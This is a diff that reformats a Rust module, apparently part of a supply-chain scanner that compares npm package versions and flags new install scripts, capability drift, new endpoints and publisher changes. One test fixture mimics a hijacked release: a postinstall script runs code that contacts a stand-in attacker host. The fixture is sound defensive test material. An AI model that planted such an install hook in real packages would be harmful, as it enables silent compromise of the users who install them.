@@ -56,8 +56,12 @@ pub struct VersionDiff {
 }
 
 /// Capabilities whose appearance in a new version is worth a `capability-drift` alert.
-const DRIFT_CAPABILITIES: [AlertId; 4] =
-    [AlertId::NetworkAccess, AlertId::ShellAccess, AlertId::EnvAccess, AlertId::DynamicCode];
+const DRIFT_CAPABILITIES: [AlertId; 4] = [
+    AlertId::NetworkAccess,
+    AlertId::ShellAccess,
+    AlertId::EnvAccess,
+    AlertId::DynamicCode,
+];
 
 const INSTALL_SCRIPTS: [&str; 4] = ["preinstall", "install", "postinstall", "prepare"];
 
@@ -69,7 +73,12 @@ pub fn diff(old: &VersionSide, new: &VersionSide, earlier_publishers: &[String])
     let scripts = |c: &PackageContents| -> BTreeMap<String, String> {
         c.file(manifest::MANIFEST_PATH)
             .and_then(|f| manifest::parse(&f.text()).ok())
-            .map(|m| m.scripts.into_iter().filter(|(k, _)| INSTALL_SCRIPTS.contains(&k.as_str())).collect())
+            .map(|m| {
+                m.scripts
+                    .into_iter()
+                    .filter(|(k, _)| INSTALL_SCRIPTS.contains(&k.as_str()))
+                    .collect()
+            })
             .unwrap_or_default()
     };
     let (old_scripts, new_scripts) = (scripts(old.contents), scripts(new.contents));
@@ -77,28 +86,49 @@ pub fn diff(old: &VersionSide, new: &VersionSide, earlier_publishers: &[String])
     for (key, command) in &new_scripts {
         let before = old_scripts.get(key);
         if before != Some(command) {
-            install_scripts.push(ScriptChange { script: key.clone(), before: before.cloned(), after: command.clone() });
+            install_scripts.push(ScriptChange {
+                script: key.clone(),
+                before: before.cloned(),
+                after: command.clone(),
+            });
         }
     }
-    let added_scripts: Vec<&ScriptChange> = install_scripts.iter().filter(|c| c.before.is_none()).collect();
+    let added_scripts: Vec<&ScriptChange> = install_scripts
+        .iter()
+        .filter(|c| c.before.is_none())
+        .collect();
     if !added_scripts.is_empty() && old_scripts.is_empty() {
         alerts.push(Alert::new(
             AlertId::NewInstallScript,
             added_scripts
                 .iter()
-                .map(|c| evidence("package.json", format!("\"{}\": \"{}\"", c.script, c.after), format!("`{}` was not in the previous version", c.script)))
+                .map(|c| {
+                    evidence(
+                        "package.json",
+                        format!("\"{}\": \"{}\"", c.script, c.after),
+                        format!("`{}` was not in the previous version", c.script),
+                    )
+                })
                 .collect(),
         ));
     }
 
     let ids = |r: &PackageReport, kind: AlertKind| -> BTreeSet<AlertId> {
-        r.alerts.iter().filter(|a| a.alert.kind == kind).map(|a| a.alert.id).collect()
+        r.alerts
+            .iter()
+            .filter(|a| a.alert.kind == kind)
+            .map(|a| a.alert.id)
+            .collect()
     };
     let added_capabilities: Vec<AlertId> = ids(new.report, AlertKind::Capability)
         .difference(&ids(old.report, AlertKind::Capability))
         .copied()
         .collect();
-    let drift: Vec<AlertId> = added_capabilities.iter().copied().filter(|id| DRIFT_CAPABILITIES.contains(id)).collect();
+    let drift: Vec<AlertId> = added_capabilities
+        .iter()
+        .copied()
+        .filter(|id| DRIFT_CAPABILITIES.contains(id))
+        .collect();
     if !drift.is_empty() {
         let evidence = new
             .report
@@ -109,29 +139,57 @@ pub fn diff(old: &VersionSide, new: &VersionSide, earlier_publishers: &[String])
             .collect();
         alerts.push(Alert::new(AlertId::CapabilityDrift, evidence));
     }
-    let added_threats: Vec<AlertId> =
-        ids(new.report, AlertKind::Threat).difference(&ids(old.report, AlertKind::Threat)).copied().collect();
+    let added_threats: Vec<AlertId> = ids(new.report, AlertKind::Threat)
+        .difference(&ids(old.report, AlertKind::Threat))
+        .copied()
+        .collect();
 
-    let files = |c: &PackageContents| -> BTreeMap<String, u64> { c.files.iter().map(|f| (f.path.clone(), f.size)).collect() };
+    let files = |c: &PackageContents| -> BTreeMap<String, u64> {
+        c.files.iter().map(|f| (f.path.clone(), f.size)).collect()
+    };
     let (old_files, new_files) = (files(old.contents), files(new.contents));
-    let added_files: Vec<String> = new_files.keys().filter(|p| !old_files.contains_key(*p)).cloned().collect();
-    let removed_files: Vec<String> = old_files.keys().filter(|p| !new_files.contains_key(*p)).cloned().collect();
+    let added_files: Vec<String> = new_files
+        .keys()
+        .filter(|p| !old_files.contains_key(*p))
+        .cloned()
+        .collect();
+    let removed_files: Vec<String> = old_files
+        .keys()
+        .filter(|p| !new_files.contains_key(*p))
+        .cloned()
+        .collect();
     let grown_files: Vec<GrownFile> = new_files
         .iter()
         .filter(|(p, _)| is_javascript(p))
         .filter_map(|(p, &after)| {
             let before = *old_files.get(p)?;
-            (after >= before.saturating_mul(2) && after >= before + 10 * 1024).then(|| GrownFile { path: p.clone(), before, after })
+            (after >= before.saturating_mul(2) && after >= before + 10 * 1024).then(|| GrownFile {
+                path: p.clone(),
+                before,
+                after,
+            })
         })
         .collect();
 
     let endpoints = |r: &PackageReport| -> BTreeSet<String> {
-        r.iocs.hosts.iter().chain(&r.iocs.ips).chain(&r.iocs.webhooks).cloned().collect()
+        r.iocs
+            .hosts
+            .iter()
+            .chain(&r.iocs.ips)
+            .chain(&r.iocs.webhooks)
+            .cloned()
+            .collect()
     };
-    let new_endpoints: Vec<String> = endpoints(new.report).difference(&endpoints(old.report)).cloned().collect();
+    let new_endpoints: Vec<String> = endpoints(new.report)
+        .difference(&endpoints(old.report))
+        .cloned()
+        .collect();
 
     let publisher_change = match &new.publisher {
-        Some(p) if !earlier_publishers.is_empty() && !earlier_publishers.iter().any(|e| e.eq_ignore_ascii_case(p)) => {
+        Some(p)
+            if !earlier_publishers.is_empty()
+                && !earlier_publishers.iter().any(|e| e.eq_ignore_ascii_case(p)) =>
+        {
             let mut earlier = earlier_publishers.to_vec();
             earlier.sort();
             earlier.dedup();
@@ -166,7 +224,14 @@ pub fn diff(old: &VersionSide, new: &VersionSide, earlier_publishers: &[String])
 }
 
 fn evidence(file: &str, snippet: String, detail: String) -> Evidence {
-    Evidence { file: file.to_string(), line: 0, column: 0, snippet, detail, urls: Vec::new() }
+    Evidence {
+        file: file.to_string(),
+        line: 0,
+        column: 0,
+        snippet,
+        detail,
+        urls: Vec::new(),
+    }
 }
 
 fn is_javascript(path: &str) -> bool {
@@ -180,13 +245,20 @@ mod tests {
     use crate::verdict::Verdict;
 
     fn package(files: &[(&str, &str)]) -> PackageContents {
-        PackageContents::from_files(files.iter().map(|(p, t)| (p.to_string(), t.as_bytes().to_vec())))
+        PackageContents::from_files(
+            files
+                .iter()
+                .map(|(p, t)| (p.to_string(), t.as_bytes().to_vec())),
+        )
     }
 
     #[test]
     fn a_hijacked_release_shows_its_drift() {
         let old = package(&[
-            ("package.json", r#"{"name":"left-pad-helper","version":"1.0.0","main":"index.js"}"#),
+            (
+                "package.json",
+                r#"{"name":"left-pad-helper","version":"1.0.0","main":"index.js"}"#,
+            ),
             ("index.js", "module.exports = (s, n) => s.padStart(n);\n"),
         ]);
         let new = package(&[
@@ -195,27 +267,49 @@ mod tests {
                 r#"{"name":"left-pad-helper","version":"1.0.1","main":"index.js","scripts":{"postinstall":"node setup.js"}}"#,
             ),
             ("index.js", "module.exports = (s, n) => s.padStart(n);\n"),
-            ("setup.js", "const https = require('https');\nhttps.get('https://collector.attacker.example/x');\n"),
+            (
+                "setup.js",
+                "const https = require('https');\nhttps.get('https://collector.attacker.example/x');\n",
+            ),
         ]);
         let options = InspectOptions::default();
         let (old_report, new_report) = (inspect(&old, &options), inspect(&new, &options));
         let d = diff(
-            &VersionSide { contents: &old, report: &old_report, publisher: Some("alice".into()) },
-            &VersionSide { contents: &new, report: &new_report, publisher: Some("mallory".into()) },
+            &VersionSide {
+                contents: &old,
+                report: &old_report,
+                publisher: Some("alice".into()),
+            },
+            &VersionSide {
+                contents: &new,
+                report: &new_report,
+                publisher: Some("mallory".into()),
+            },
             &["alice".to_string()],
         );
         let ids: Vec<AlertId> = d.alerts.iter().map(|a| a.id).collect();
         assert!(ids.contains(&AlertId::NewInstallScript), "{ids:?}");
         assert!(ids.contains(&AlertId::PublisherChange), "{ids:?}");
-        assert!(d.added_capabilities.contains(&AlertId::NetworkAccess), "{:?}", d.added_capabilities);
+        assert!(
+            d.added_capabilities.contains(&AlertId::NetworkAccess),
+            "{:?}",
+            d.added_capabilities
+        );
         assert_eq!(d.added_files, vec!["setup.js".to_string()]);
         assert_eq!(d.install_scripts[0].after, "node setup.js");
-        assert!(d.decision.verdict >= Verdict::Suspicious, "{:?}", d.decision);
+        assert!(
+            d.decision.verdict >= Verdict::Suspicious,
+            "{:?}",
+            d.decision
+        );
     }
 
     #[test]
     fn an_ordinary_release_has_no_drift() {
-        let old = package(&[("package.json", r#"{"name":"x","version":"1.0.0"}"#), ("index.js", "exports.a = 1;\n")]);
+        let old = package(&[
+            ("package.json", r#"{"name":"x","version":"1.0.0"}"#),
+            ("index.js", "exports.a = 1;\n"),
+        ]);
         let new = package(&[
             ("package.json", r#"{"name":"x","version":"1.1.0"}"#),
             ("index.js", "exports.a = 1;\nexports.b = 2;\n"),
@@ -223,8 +317,16 @@ mod tests {
         let options = InspectOptions::default();
         let (old_report, new_report) = (inspect(&old, &options), inspect(&new, &options));
         let d = diff(
-            &VersionSide { contents: &old, report: &old_report, publisher: Some("alice".into()) },
-            &VersionSide { contents: &new, report: &new_report, publisher: Some("alice".into()) },
+            &VersionSide {
+                contents: &old,
+                report: &old_report,
+                publisher: Some("alice".into()),
+            },
+            &VersionSide {
+                contents: &new,
+                report: &new_report,
+                publisher: Some("alice".into()),
+            },
             &["alice".to_string(), "bob".to_string()],
         );
         assert!(d.alerts.is_empty(), "{:?}", d.alerts);
